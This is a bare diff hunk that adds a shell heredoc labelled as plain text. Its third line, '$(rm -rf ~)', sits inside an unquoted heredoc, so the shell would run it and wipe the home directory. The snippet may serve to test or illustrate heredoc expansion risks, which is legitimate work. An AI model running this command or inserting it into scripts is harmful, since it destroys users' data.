@@ -1,0 +1,4 @@
+cat <<EOF
+plain text
+$(rm -rf ~)
+EOF
